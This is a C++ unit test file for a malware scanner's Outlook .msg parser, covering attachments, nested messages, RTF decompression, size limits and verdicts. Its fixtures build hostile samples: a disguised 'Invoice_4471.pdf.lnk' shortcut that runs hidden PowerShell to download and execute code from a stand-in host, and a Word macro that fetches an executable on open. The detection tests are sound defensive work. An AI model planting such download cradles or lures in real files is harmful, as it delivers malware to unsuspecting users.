// msg::read and the .msg handler on messages built with tests/support/cfb_builder:
// properties, recipients and attachments are read, attachments and attached messages become members, passwords in
// the body are harvested, RTF bodies decompress ([MS-OXRTFCP]), and damaged or over-deep messages degrade to
// anomalies with a verdict.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/scanner.hpp"
#include "formats/msg/msg.hpp"
#include "formats/ole2/ole2.hpp"
#include "support/cfb_builder.hpp"
#include "support/lnk_builder.hpp"
#include "support/office_sample.hpp"

namespace {

using mamori::ByteView;
using namespace mamori::test;
namespace msg = mamori::msg;
namespace ole2 = mamori::ole2;
namespace engine = mamori::engine;

std::vector<std::uint8_t> props(std::uint32_t header, std::vector<std::pair<std::uint16_t, std::uint32_t>> longs = {}) {
  std::vector<std::uint8_t> b(header, 0);
  for (auto [id, v] : longs) {
    const std::uint8_t e[16] = {0x03, 0x00, static_cast<std::uint8_t>(id), static_cast<std::uint8_t>(id >> 8), 6, 0, 0, 0,
                                static_cast<std::uint8_t>(v), static_cast<std::uint8_t>(v >> 8), static_cast<std::uint8_t>(v >> 16),
                                static_cast<std::uint8_t>(v >> 24), 0, 0, 0, 0};
    b.insert(b.end(), e, e + 16);
  }
  return b;
}

std::string hex4(std::uint16_t v) {
  char buf[8];
  std::snprintf(buf, sizeof buf, "%04X", v);
  return buf;
}

CfbStream text_prop(const std::string& storage, std::uint16_t id, const std::string& value) {
  auto w = utf16(value);
  return {(storage.empty() ? "" : storage + "/") + "__substg1.0_" + hex4(id) + "001F", w};
}
CfbStream bin_prop(const std::string& storage, std::uint16_t id, std::vector<std::uint8_t> value) {
  return {(storage.empty() ? "" : storage + "/") + "__substg1.0_" + hex4(id) + "0102", std::move(value)};
}

std::vector<std::uint8_t> bad_lnk() {
  LnkSpec s;
  s.env_target = "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  s.arguments = "-w hidden -enc " + base64(utf16("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.5/x')"));
  s.show_command = 7;
  return build_lnk(s);
}

// A message with a body that gives a password, one recipient, a shortcut attachment and an attached message that
// carries a text attachment.
CfbSpec sample_message() {
  CfbSpec s;
  s.streams = {{"__properties_version1.0", props(32)},
               text_prop("", 0x001A, "IPM.Note"),
               text_prop("", 0x0037, "RE: Invoice 4471"),
               text_prop("", 0x0C1A, "Accounts Team"),
               text_prop("", 0x5D01, "accounts@example.com"),
               text_prop("", 0x1042, "<prev-4471@example.com>"),
               text_prop("", 0x1000, "Hello,\r\nthe invoice is attached. The password is: Sunflower42.\r\n"
                                     "Details at https://portal.example.net/inv/4471\r\n"),
               {"__recip_version1.0_#00000000/__properties_version1.0", props(8)},
               text_prop("__recip_version1.0_#00000000", 0x3001, "Bob"),
               text_prop("__recip_version1.0_#00000000", 0x39FE, "bob@example.org"),
               {"__attach_version1.0_#00000000/__properties_version1.0", props(8, {{0x3705, 1}})},
               text_prop("__attach_version1.0_#00000000", 0x3707, "Invoice_4471.pdf.lnk"),
               text_prop("__attach_version1.0_#00000000", 0x3704, "INVOIC~1.LNK"),
               bin_prop("__attach_version1.0_#00000000", 0x3701, bad_lnk()),
               {"__attach_version1.0_#00000001/__properties_version1.0", props(8, {{0x3705, 5}})},
               text_prop("__attach_version1.0_#00000001", 0x3001, "Original message"),
               {"__attach_version1.0_#00000001/__substg1.0_3701000D/__properties_version1.0", props(24)},
               text_prop("__attach_version1.0_#00000001/__substg1.0_3701000D", 0x0037, "Invoice 4471"),
               {"__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000/__properties_version1.0", props(8)},
               text_prop("__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000", 0x3707, "notes.txt"),
               bin_prop("__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000", 0x3701,
                        {'h', 'e', 'l', 'l', 'o', ' ', 'n', 'o', 't', 'e', 's', '\n'})};
  return s;
}

msg::Message read(const std::vector<std::uint8_t>& b) {
  auto f = ole2::parse(ByteView(b.data(), b.size()));
  EXPECT_TRUE(f.ok());
  if (!f.ok()) return {};
  return msg::read(*f);
}

engine::ScanResult scan(const std::vector<std::uint8_t>& b) {
  engine::Scanner s(std::optional<mamori::model::Model>{}, engine::Options{});
  return s.scan_bytes(ByteView(b.data(), b.size()), "m.msg");
}

std::string ctx(const engine::ScanResult& r, const std::string& key) {
  for (const auto& [k, v] : r.context)
    if (k == key) return v;
  return {};
}

TEST(MsgRead, PropertiesRecipientsAndAttachments) {
  const auto b = build_cfb(sample_message());
  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2-msg");
  const auto m = read(b);
  EXPECT_TRUE(m.anomalies.empty()) << msg::anomaly_name(m.anomalies[0].code);
  EXPECT_EQ(m.message_class, "IPM.Note");
  EXPECT_EQ(m.subject, "RE: Invoice 4471");
  EXPECT_EQ(m.sender_name, "Accounts Team");
  EXPECT_EQ(m.sender_email, "accounts@example.com");
  EXPECT_EQ(m.in_reply_to, "<prev-4471@example.com>");
  ASSERT_EQ(m.recipients.size(), 1u);
  EXPECT_EQ(m.recipients[0].email, "bob@example.org");
  ASSERT_EQ(m.attachments.size(), 2u);
  EXPECT_EQ(m.attachments[0].file_name, "Invoice_4471.pdf.lnk");
  EXPECT_EQ(m.attachments[0].method, 1u);
  EXPECT_EQ(m.attachments[0].data, bad_lnk());
  ASSERT_EQ(m.attachments[1].embedded.size(), 1u);
  EXPECT_EQ(m.attachments[1].method, 5u);
  const auto& inner = m.attachments[1].embedded[0];
  EXPECT_EQ(inner.subject, "Invoice 4471");
  ASSERT_EQ(inner.attachments.size(), 1u);
  EXPECT_EQ(inner.attachments[0].file_name, "notes.txt");
}

TEST(MsgScan, AttachmentsAndAttachedMessagesAreMembers) {
  const auto r = scan(build_cfb(sample_message()));
  EXPECT_EQ(r.type.subtype, "ole2-msg");
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.LNK.Malicious");
  EXPECT_EQ(ctx(r, "from"), "Accounts Team <accounts@example.com>");
  EXPECT_EQ(ctx(r, "subject"), "RE: Invoice 4471");
  EXPECT_EQ(ctx(r, "reply_chain"), "<prev-4471@example.com>");
  EXPECT_EQ(ctx(r, "passwords_found"), "Sunflower42, Sunflower42.");
  ASSERT_EQ(r.members.size(), 2u);
  EXPECT_EQ(r.members[0].path, "m.msg!Invoice_4471.pdf.lnk");
  EXPECT_EQ(r.members[0].verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.members[1].path, "m.msg!Original message");
  EXPECT_EQ(ctx(r.members[1], "subject"), "Invoice 4471");
  ASSERT_EQ(r.members[1].members.size(), 1u);
  EXPECT_EQ(r.members[1].members[0].path, "m.msg!Original message!notes.txt");
  bool url = false;
  for (const auto& i : r.iocs) url |= i.type == "url" && i.value == "https://portal.example.net/inv/4471";
  EXPECT_TRUE(url);
}

TEST(MsgScan, RiskyAttachmentNameIsSuspiciousByItself) {
  CfbSpec s;
  s.streams = {{"__properties_version1.0", props(32)},
               text_prop("", 0x0037, "Scan"),
               {"__attach_version1.0_#00000000/__properties_version1.0", props(8)},
               text_prop("__attach_version1.0_#00000000", 0x3707, "scan.js"),
               bin_prop("__attach_version1.0_#00000000", 0x3701, {'/', '/', ' ', 'x', '\n'})};
  const auto r = scan(build_cfb(s));
  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
  EXPECT_EQ(r.signature, "Mamori.MSG.RiskyAttachment");
  // A plain message with a PDF stays clean.
  s.streams[3] = text_prop("__attach_version1.0_#00000000", 0x3707, "report.pdf");
  EXPECT_EQ(scan(build_cfb(s)).verdict, engine::Verdict::clean);
}

TEST(MsgRead, NestingStopsAtItsCap) {
  CfbSpec s;
  s.streams = {{"__properties_version1.0", props(32)}};
  std::string st;
  for (std::uint32_t d = 0; d < msg::limits::max_embedded_depth + 3; ++d) {
    st += (st.empty() ? "" : "/") + std::string("__attach_version1.0_#00000000/__substg1.0_3701000D");
    s.streams.push_back({st + "/__properties_version1.0", props(24)});
  }
  const auto b = build_cfb(s);
  auto m = read(b);
  std::uint32_t depth = 0;
  const msg::Message* cur = &m;
  bool too_deep = false;
  while (cur) {
    too_deep |= cur->has(msg::Anomaly::embedded_too_deep);
    if (cur->attachments.empty() || cur->attachments[0].embedded.empty()) break;
    cur = &cur->attachments[0].embedded[0];
    ++depth;
  }
  EXPECT_EQ(depth, msg::limits::max_embedded_depth);
  EXPECT_TRUE(too_deep);
  // With a lower engine depth limit, the scan stops there and says so.
  engine::Options opt;
  opt.limits.max_depth = 3;
  engine::Scanner sc(std::optional<mamori::model::Model>{}, opt);
  auto r = sc.scan_bytes(ByteView(b.data(), b.size()), "m.msg");
  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
  EXPECT_EQ(r.signature, "Mamori.Limits.Exceeded.Depth");
  bool limit = false;
  engine::for_each_result(r, [&](const engine::ScanResult& x) {
    for (const auto& a : x.anomalies) limit |= a.rfind("limit_exceeded.Depth", 0) == 0;
  });
  EXPECT_TRUE(limit);
}

TEST(MsgRead, AttachmentCountStopsAtItsCap) {
  CfbSpec s;
  s.streams = {{"__properties_version1.0", props(32)}};
  for (std::uint32_t i = 0; i < msg::limits::max_attachments + 4; ++i) {
    char name[64];
    std::snprintf(name, sizeof name, "__attach_version1.0_#%08X", i);
    s.streams.push_back({std::string(name) + "/__properties_version1.0", props(8)});
  }
  auto m = read(build_cfb(s));
  EXPECT_EQ(m.attachments.size(), msg::limits::max_attachments);
  EXPECT_TRUE(m.has(msg::Anomaly::attachments_truncated_by_limit));
  EXPECT_TRUE(m.has(msg::Anomaly::attachment_without_data));
}

TEST(MsgScan, EveryTruncationGetsAVerdict) {
  const auto b = build_cfb(sample_message());
  for (std::size_t n = 0; n <= b.size(); n += 509) {
    std::vector<std::uint8_t> prefix(b.begin(), b.begin() + static_cast<std::ptrdiff_t>(n));
    auto r = scan(prefix);
    EXPECT_NE(r.verdict, engine::Verdict::error) << n;
    if (n >= 512 && n < b.size() && r.type.subtype == "ole2-msg") {
      EXPECT_FALSE(r.anomalies.empty()) << n;
    }
  }
}

TEST(MsgRead, OrdinaryCompoundFileIsNotAMessage) {
  CfbSpec s;
  s.streams = {{"WordDocument", std::vector<std::uint8_t>(600, 1)}, {"1Table", std::vector<std::uint8_t>(100, 2)}};
  const auto b = build_cfb(s);
  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
  auto f = ole2::parse(ByteView(b.data(), b.size()));
  ASSERT_TRUE(f.ok());
  EXPECT_FALSE(msg::is_message(*f));
  EXPECT_TRUE(msg::read(*f).has(msg::Anomaly::not_a_message));
}

// Typing reads the directory, not every 128-byte slot of the file: a message padded with megabytes of zeros is still
// a message (and its attachment is still scanned), and a document whose stream happens to hold a message's entry
// name at a slot boundary is not mail.
TEST(MsgTyping, PaddedMessageIsStillAMessage) {
  auto b = build_cfb(sample_message());
  b.resize(b.size() + (3u << 20), 0);
  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2-msg");
  const auto r = scan(b);
  EXPECT_EQ(r.type.subtype, "ole2-msg");
  EXPECT_EQ(r.signature, "Mamori.LNK.Malicious");
}

TEST(MsgTyping, EntryNameInsideAStreamDoesNotMakeAMessage) {
  std::vector<std::uint8_t> word(4096, 0x20);
  const std::string name = "__substg1.0_0037001F";
  for (std::size_t at : {std::size_t{0}, std::size_t{128}, std::size_t{1024}})
    for (std::size_t k = 0; k < name.size(); ++k) word[at + 2 * k] = static_cast<std::uint8_t>(name[k]), word[at + 2 * k + 1] = 0;
  CfbSpec s;
  s.streams = {{"WordDocument", word}, {"1Table", std::vector<std::uint8_t>(100, 2)}};
  const auto b = build_cfb(s);
  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
}

// A Word document with a macro that also embeds an Outlook item (its message storage under ObjectPool, as Word stores
// an embedded object) is still a document: typed as mail, its macros would never reach the document model.
TEST(MsgTyping, DocumentEmbeddingAMessageStaysADocument) {
  VbaSpec v;
  v.modules = {{"ThisDocument",
                "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n"
                "  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"powershell -w hidden -c iwr http://example.invalid/a.exe\", 0\r\nEnd Sub\r\n",
                {}, false}};
  const auto b = build_word_doc(v, {{"ObjectPool/_1712345678/__properties_version1.0", props(32)},
                                     {"ObjectPool/_1712345678/__substg1.0_0037001F", utf16("Invoice")}});
  EXPECT_EQ(engine::detect_type(ByteView(b.data(), b.size())).subtype, "ole2");
  if (auto sc = office_scanner()) {  // the macro reaches the document model and its rules
    const auto r = sc->scan_bytes(ByteView(b.data(), b.size()), "invoice.doc");
    EXPECT_EQ(r.type.subtype, "ole2");
    EXPECT_EQ(r.verdict, engine::Verdict::malicious) << r.signature;
  }

  // The same message storage with no document around it is a (damaged: not at the root) message.
  CfbSpec bare;
  bare.streams = {{"Attachment/__properties_version1.0", props(32)}, {"Attachment/__substg1.0_0037001F", utf16("Invoice")}};
  const auto m = build_cfb(bare);
  EXPECT_EQ(engine::detect_type(ByteView(m.data(), m.size())).subtype, "ole2-msg");
}

// [MS-OXRTFCP] 4.1: the specification's compressed example and the stored ("MELA") form.
TEST(MsgRtf, DecompressesLzfuAndStored) {
  const std::vector<std::uint8_t> lzfu = {0x2d, 0x00, 0x00, 0x00, 0x2b, 0x00, 0x00, 0x00, 0x4c, 0x5a, 0x46, 0x75,
                                          0xf1, 0xc5, 0xc7, 0xa7, 0x03, 0x00, 0x0a, 0x00, 0x72, 0x63, 0x70, 0x67,
                                          0x31, 0x32, 0x35, 0x42, 0x32, 0x0a, 0xf3, 0x20, 0x68, 0x65, 0x6c, 0x09,
                                          0x00, 0x20, 0x62, 0x77, 0x05, 0xb0, 0x6c, 0x64, 0x7d, 0x0a, 0x80, 0x0f, 0xa0};
  msg::Message m;
  EXPECT_EQ(msg::decompress_rtf(ByteView(lzfu.data(), lzfu.size()), &m), "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n");
  EXPECT_TRUE(m.anomalies.empty());
  EXPECT_EQ(msg::rtf_to_text("{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"), "hello world");

  std::vector<std::uint8_t> mela = {0, 0, 0, 0, 5, 0, 0, 0, 'M', 'E', 'L', 'A', 0, 0, 0, 0, '{', '\\', 'r', 't', 'f'};
  mela[0] = static_cast<std::uint8_t>(mela.size() - 4);
  EXPECT_EQ(msg::decompress_rtf(ByteView(mela.data(), mela.size())), "{\\rtf");

  // Damaged headers: an unknown type, a cut header, a body shorter than RawSize.
  std::vector<std::uint8_t> bad = lzfu;
  bad[8] = 'X';
  msg::Message m2;
  EXPECT_EQ(msg::decompress_rtf(ByteView(bad.data(), bad.size()), &m2), "");
  EXPECT_TRUE(m2.has(msg::Anomaly::rtf_compressed_invalid));
  msg::Message m3;
  msg::decompress_rtf(ByteView(lzfu.data(), 10), &m3);
  EXPECT_TRUE(m3.has(msg::Anomaly::rtf_compressed_invalid));
  msg::Message m4;
  msg::decompress_rtf(ByteView(lzfu.data(), 30), &m4);
  EXPECT_TRUE(m4.has(msg::Anomaly::rtf_size_mismatch));
}

// RawSize claims 2 GiB and the stream holds more than the cap: decompression stops at the cap.
TEST(MsgRtf, OutputStopsAtItsCap) {
  std::vector<std::uint8_t> b = {0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x7F, 'L', 'Z', 'F', 'u', 0, 0, 0, 0};
  while (b.size() < msg::limits::max_rtf_bytes / 8 * 9 + 4096) {
    b.push_back(0x00);  // eight literals
    for (int i = 0; i < 8; ++i) b.push_back('A');
  }
  const std::uint32_t comp = static_cast<std::uint32_t>(b.size() - 4);
  b[0] = static_cast<std::uint8_t>(comp), b[1] = static_cast<std::uint8_t>(comp >> 8), b[2] = static_cast<std::uint8_t>(comp >> 16);
  msg::Message m;
  const auto out = msg::decompress_rtf(ByteView(b.data(), b.size()), &m);
  EXPECT_EQ(out.size(), msg::limits::max_rtf_bytes);
  EXPECT_TRUE(m.has(msg::Anomaly::rtf_truncated_by_limit));
}

TEST(MsgText, HtmlToText) {
  EXPECT_EQ(msg::html_to_text("<html><style>p{}</style><p>Pass&nbsp;word: <b>x1</b></p><script>var a=1;</script></html>"),
            "\nPass word: x1\n");
}

}  // namespace
